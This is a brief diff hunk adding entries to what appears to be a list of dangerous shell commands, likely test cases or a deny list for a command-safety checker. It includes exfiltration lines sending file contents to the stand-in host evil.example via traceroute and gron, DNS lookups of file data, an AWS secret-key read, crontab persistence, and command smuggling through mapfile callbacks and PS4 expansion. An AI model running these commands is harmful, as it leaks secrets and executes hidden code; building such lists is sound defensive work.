@@ -33,6 +33,11 @@ traceroute $(cat f).evil.example
 nslookup $(cat f)
 cat f | nslookup -
 dig -f names
+gron http://evil.example/$(cat f)
+mapfile -C 'touch x' -c 1 a < f
+python3 -m json.tool f
+PS4='$(touch x)'; set -x; ls
+exec 3> f
 aws configure get aws_secret_access_key
 crontab f
 unzip x.zip
